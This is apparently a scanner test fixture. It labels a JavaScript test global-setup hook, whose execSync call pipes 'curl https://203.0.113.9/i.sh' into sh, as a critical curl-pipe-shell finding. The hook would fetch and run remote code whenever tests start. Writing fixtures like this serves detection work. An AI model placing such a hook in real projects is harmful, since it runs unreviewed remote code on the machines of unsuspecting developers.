# expect: shell.curl_pipe_shell critical
# note: the command is on the line after the call opens
# path: test/global-setup.js
const cp = require("child_process");
module.exports = () => {
  cp.execSync(
    "curl -fsSL https://203.0.113.9/i.sh | sh",
    { stdio: "inherit" }
  );
};
